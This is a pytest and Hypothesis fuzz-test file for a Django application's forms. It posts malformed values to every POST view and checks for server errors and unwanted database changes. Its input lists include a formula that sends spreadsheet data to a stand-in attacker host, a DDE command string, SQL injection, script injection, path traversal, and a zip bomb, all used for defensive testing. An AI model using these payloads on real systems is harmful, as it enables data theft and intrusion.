"""Fuzz every form of the app: generated values (control characters, NUL,
overlong, formula-like, emoji and right-to-left text; integers beyond any
bound; dates in odd formats; unknown choices; random and truncated files)
are posted to each view the URL resolver finds that accepts a POST
(tests/form_catalogue.py). No post may answer 500; a refused post (a form
re-rendered with errors, a 4xx, or a redirect with only an error message)
must leave every row of the project's apps as it was."""

from __future__ import annotations

import copy
import hashlib
import io
import os
import zipfile
from collections import Counter, defaultdict

import pytest
from django import forms
from django.apps import apps
from django.contrib import messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.test import Client
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from tests.congress.conftest import tiers  # noqa: F401 - fixture
from tests.congress.documents_support import PDF, docx
from tests.delegates.people import test_people_import as people_files
from tests.form_catalogue import CATALOGUE, OMIT, Target, World, choice_values, post_views
from tests.units import test_unit_import as unit_files

PROJECT_APPS = ("units", "congress", "delegates", "reports")
# FUZZ_STATS=1 prints, per form, how many posts got which status (refused or not).
STATS: dict[str, Counter] = defaultdict(Counter)

# Defects the fuzz found, by URL name: the test of that form is expected to
# fail (strict) until the application is fixed.
# Inputs that once made a form answer 500, replayed before the generated
# ones on every run (each over the form's valid post): a return address
# read as a view name (units.navigation), a NUL in a search, digits that
# are no integer (units.params).
REGRESSIONS: dict[str, list[dict]] = {
    "congress:exemption_add": [{"next": "0"}],
    "congress:exemption_lift": [{"next": "0"}],
    "delegates:official_add": [{"q": "\x00"}],
    "delegates:official_suggestions": [{"people": ["9" * 5000]}, {"people": ["²"]}],
}


# -- The catalogue covers every POST view ----------------------------------------------


def test_every_post_view_of_the_resolver_is_in_the_catalogue():
    found = post_views()
    assert len(found) > 40  # the walk reached the included URLconfs
    for name in found:
        assert name in CATALOGUE, f"add {name} to the form catalogue"
    for name in CATALOGUE:
        assert name in found, f"{name} is in the form catalogue but no POST view has that name"


def test_the_login_and_password_reset_pages_are_the_projects():
    from units.forms import LoginForm, QueuedPasswordResetForm

    found = post_views()

    def form_class(view, attribute):
        return view.initkwargs.get(attribute) or getattr(view.view_class, attribute)

    assert form_class(found["login"], "authentication_form") is LoginForm
    assert issubclass(form_class(found["password_reset"], "form_class"), QueuedPasswordResetForm)


# -- Values ------------------------------------------------------------------------

NASTY_TEXT = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "A\x17B",
    "\x1b[31m",
    "\x7f",
    "\x85",
    "\u2028",
    "\r\n",
    "\t",
    "\ufeff",
    "\u200b",
    "\u202egnp.exe",
    "مرحبا بالعالم",
    "שלום",
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    "😀👨‍👩‍👧‍👦🇻🇳",
    "\U0010ffff",
    "e\u0301\u0301\u0301",
    "Nguyễn Văn A",
    "'; DROP TABLE units_unit; --",
    "<script>alert(1)</script>",
    "{{ 7|add:7 }}",
    "%s%n%x",
    "../../etc/passwd",
    "1e309",
    "NaN",
]
NASTY_INTEGERS = [
    "",
    "0",
    "-1",
    "1",
    "2147483647",
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "99999999999999999999",
    "9" * 5000,
    "1e309",
    "1e3",
    "NaN",
    "inf",
    "-inf",
    "1.5",
    "1,5",
    " 7 ",
    "١٢٣",
    "0x1F",
    "1_000",
    "+5",
    "--1",
    "\x001",
]
NASTY_DATES = [
    "",
    "31/02/2020",
    "29/02/2021",
    "00/00/0000",
    "01/01/0001",
    "31/12/9999",
    "01/01/10000",
    "2020-01-15",
    "15/01/2020",
    "15-01-2020",
    "2020/01/15",
    "15.01.2020",
    "1/1/1",
    "32/01/2020",
    "15/13/2020",
    "today",
    "1e309",
    "0",
    "-1/-1/-1",
    "15/01/2020 08:00",
    "٠١/٠١/٢٠٢٠",
]
NASTY_TIMES = ["", "25:00", "24:00", "08:60", "8", "08:00:61", "-1:00", "08:00 PM", "noon", "٠٨:٠٠"]
NASTY_IDS = ["", "0", "-1", "9" * 30, "9" * 5000, "1e309", "NaN", "abc", "1.0", "\x00"]
DATE_FORMATS = ["%d/%m/%Y", "%Y-%m-%d", "%m/%d/%Y", "%d/%m/%y", "%d-%b-%Y"]
FILE_NAMES = [
    "x.pdf",
    "x.docx",
    "x.doc",
    "x.xlsx",
    "x.exe",
    "x",
    ".pdf",
    "X.PDF",
    "a" * 300 + ".pdf",
    "tên tệp.xlsx",
    "../../x.pdf",
    "x.pdf.exe",
    "x.xlsx.pdf",
]


def _empty_workbook() -> bytes:
    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    return buffer.getvalue()


def _zip_of(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def _workbook(header: list, *rows: list) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


XLSX = _empty_workbook()
DOCX = docx()
UNIT_ROWS = _workbook(unit_files.HEADER, unit_files.row())
PEOPLE_ROWS = _workbook(people_files.HEADER, people_files.row())
FILE_BASES = [
    PDF,
    DOCX,
    XLSX,
    UNIT_ROWS,
    PEOPLE_ROWS,
    _zip_of("xl/workbook.xml", b"\x00" * 200_000),  # expands 1,000 times
    b"%PDF-1.4\n",
]


def text_values(max_length: int | None):
    lengths = sorted({(max_length or 255) + 1, 10_000, 100_000})
    return st.one_of(
        st.text(max_size=40),
        st.sampled_from(NASTY_TEXT),
        st.tuples(
            st.sampled_from(["a", "é", "😀", "\x00", "=", " "]), st.sampled_from(lengths)
        ).map(lambda pair: pair[0] * pair[1]),
    )


def integer_values():
    return st.one_of(
        st.sampled_from(NASTY_INTEGERS),
        st.integers().map(str),
        st.integers(min_value=-3, max_value=120).map(str),
    )


def date_values():
    return st.one_of(
        st.sampled_from(NASTY_DATES),
        st.tuples(st.dates(), st.sampled_from(DATE_FORMATS)).map(lambda p: p[0].strftime(p[1])),
    )


def file_values():
    content = st.one_of(
        st.binary(max_size=2_000),
        st.tuples(st.sampled_from(FILE_BASES), st.floats(0, 1)).map(
            lambda p: p[0][: int(len(p[0]) * p[1])]  # truncated
        ),
        st.sampled_from(FILE_BASES),
        st.binary(max_size=200).map(lambda tail: b"%PDF-1.4\n" + tail),
        st.binary(max_size=200).map(lambda tail: b"PK\x03\x04" + tail),
    )
    # The import templates with one row of generated cells.
    cell = st.one_of(st.text(max_size=30), st.sampled_from(NASTY_TEXT), st.integers(), st.dates())
    workbooks = st.tuples(
        st.sampled_from([unit_files.HEADER, people_files.HEADER]), st.lists(cell, max_size=16)
    ).map(lambda pair: _workbook(pair[0], pair[1]))
    return st.one_of(
        st.builds(SimpleUploadedFile, st.sampled_from(FILE_NAMES), content),
        st.builds(SimpleUploadedFile, st.just("x.xlsx"), workbooks),
    )


def garbage(form_field: forms.Field):
    """What to post to a field instead of a valid value, by its type."""
    if isinstance(form_field, forms.FileField):
        return file_values()
    if isinstance(form_field, forms.BooleanField):
        return st.sampled_from(["on", "", "off", "false", "0", "1", "\x00", "None"])
    if isinstance(form_field, (forms.ChoiceField, forms.ModelChoiceField)):
        known = choice_values(form_field)
        one = st.one_of(
            *([st.sampled_from(known)] if known else []),
            st.sampled_from(NASTY_IDS),
            st.text(max_size=20),
        )
        if isinstance(form_field, (forms.MultipleChoiceField, forms.ModelMultipleChoiceField)):
            return st.lists(one, max_size=6)
        return one
    if isinstance(form_field, forms.IntegerField):
        return integer_values()
    if isinstance(form_field, forms.DateField):
        return date_values()
    if isinstance(form_field, forms.TimeField):
        return st.one_of(st.sampled_from(NASTY_TIMES), st.times().map(str))
    if isinstance(form_field, forms.DateTimeField):
        return st.one_of(date_values(), st.datetimes().map(str))
    return text_values(getattr(form_field, "max_length", None))


def payloads(target: Target):
    """A post: each field valid, garbage or left out; each extra key one of
    its values or garbage; sometimes keys nobody expects."""
    keys = {}
    for name, form_field in target.fields.items():
        options = []
        if name in target.valid and target.valid[name] is not OMIT:
            options.append(st.just(target.valid[name]))
        options += [garbage(form_field), st.just(OMIT)]
        keys[name] = st.one_of(*options)
    for name, values in target.extra.items():
        first = [st.just(target.valid[name])] if name in target.valid else []
        keys[name] = st.one_of(*first, st.sampled_from(values), text_values(None), st.just(OMIT))
    junk = st.dictionaries(
        st.sampled_from(["_", "x", "id", "pk", "csrfmiddlewaretoken"]),
        st.text(max_size=10),
        max_size=2,
    )
    return st.tuples(st.fixed_dictionaries(keys), junk).map(
        lambda pair: {**pair[1], **{k: v for k, v in pair[0].items() if v is not OMIT}}
    )


# -- The rows, before and after --------------------------------------------------------


def project_tables() -> list[str]:
    tables = []
    for label in PROJECT_APPS:
        for model in apps.get_app_config(label).get_models(include_auto_created=True):
            meta = model._meta
            if meta.managed and not meta.proxy and meta.db_table not in tables:
                tables.append(meta.db_table)
    return tables


# Per table: its name, its count and a hash of its rows (the table names
# are the models' own, not input).
TABLE_DIGEST = (
    "SELECT '{name}', COUNT(*), "
    "MD5(COALESCE(STRING_AGG(MD5(t::text), '' ORDER BY MD5(t::text)), '')) FROM {table} t"
)


def snapshot_sql(tables: list[str]) -> str:
    quote = connection.ops.quote_name
    return " UNION ALL ".join(
        TABLE_DIGEST.format(name=table, table=quote(table)) for table in tables
    )


def snapshot(tables: list[str], sql: str) -> dict:
    """Per table of the project's apps: the count and a hash of the rows."""
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:
            cursor.execute(sql)
            return {table: (count, digest) for table, count, digest in cursor.fetchall()}
    result = {}
    with connection.cursor() as cursor:
        for table in tables:
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")  # noqa: S608
            rows = sorted(repr(row) for row in cursor.fetchall())
            result[table] = (len(rows), hashlib.sha256("".join(rows).encode()).hexdigest())
    return result


def changed_tables(before: dict, after: dict) -> list[str]:
    return [table for table in before if before[table] != after.get(table)]


def form_errors(response) -> list:
    """The errors of the forms (and formsets) the response rendered."""
    found = {}  # by id: a form is in the context of every template it renders
    for context in response.context or []:
        for value in context.flatten().values() if hasattr(context, "flatten") else []:
            if (isinstance(value, forms.BaseForm) and value.is_bound and value.errors) or (
                isinstance(value, forms.BaseFormSet) and value.is_bound and not value.is_valid()
            ):
                found[id(value)] = value.errors
    return list(found.values())


def queued_messages(response) -> list:
    storage = getattr(response.wsgi_request, "_messages", None)
    return list(getattr(storage, "_queued_messages", []))


def refused(response) -> bool:
    status = response.status_code
    if 400 <= status < 500:
        return True
    if status == 200:
        return bool(form_errors(response))
    if status in (301, 302, 303):
        queued = queued_messages(response)
        return bool(queued) and all(m.level >= messages.ERROR for m in queued)
    return False


def test_the_snapshot_sees_a_changed_row_and_nothing_else(tree):
    from units.models import Unit

    tables = project_tables()
    sql = snapshot_sql(tables)
    assert {"units_unit", "congress_conference", "delegates_person"} <= set(tables)
    before = snapshot(tables, sql)
    assert snapshot(tables, sql) == before
    Unit.objects.filter(pk=tree.hcm.pk).update(headcount=tree.hcm.headcount + 1)
    assert changed_tables(before, snapshot(tables, sql)) == ["units_unit"]


# -- The fuzz ---------------------------------------------------------------------


@pytest.fixture
def world(tree, users, tiers, settings, tmp_path):  # noqa: F811
    settings.MEDIA_ROOT = tmp_path / "media"
    return World(tree, users, tiers)


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(CATALOGUE))
def test_fuzz_form(world, name):
    target = CATALOGUE[name](world)
    tables = project_tables()
    sql = snapshot_sql(tables)

    # Signed in once: the session row is outside the savepoints, so each
    # example starts from the same session and cookies.
    client = Client()
    if target.user is not None:
        client.force_login(target.user)
    cookies = client.cookies

    def attempt(data):
        """Post ``data`` in a savepoint rolled back afterwards; returns the
        response and the tables a refused post changed."""
        with transaction.atomic():
            try:
                client.cookies = copy.copy(cookies)
                for value in data.values():
                    if isinstance(value, SimpleUploadedFile):
                        value.seek(0)
                before = snapshot(tables, sql)
                response = client.post(target.url, data)
                changed = changed_tables(before, snapshot(tables, sql)) if refused(response) else []
                return response, changed
            finally:
                transaction.set_rollback(True)

    # The valid post gets past the permission checks and the lookups: the
    # objects built are those the form needs, and the user may post it.
    baseline = {k: v for k, v in target.valid.items() if v is not OMIT}
    response, changed = attempt(baseline)
    if os.environ.get("FUZZ_STATS"):
        print(
            name, "baseline", response.status_code, form_errors(response), queued_messages(response)
        )
    assert response.status_code < 500
    if target.reachable:
        assert response.status_code not in (403, 404, 405), (
            f"{name}: the valid post answered {response.status_code}"
        )
    assert not changed, f"{name}: the refused valid post changed {changed}"

    @hypothesis_settings(
        max_examples=30,
        derandomize=True,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(data=payloads(target))
    def fuzz(data):
        response, changed = attempt(data)
        STATS[name][(response.status_code, refused(response))] += 1
        assert response.status_code < 500, f"{name}: {response.status_code}"
        assert not changed, (
            f"{name}: a refused post ({response.status_code}) changed the rows of {changed}"
        )

    for regression in REGRESSIONS.get(name, []):
        fuzz = example(data={**baseline, **regression})(fuzz)
    fuzz()
    if os.environ.get("FUZZ_STATS"):
        print(name, dict(STATS[name]))
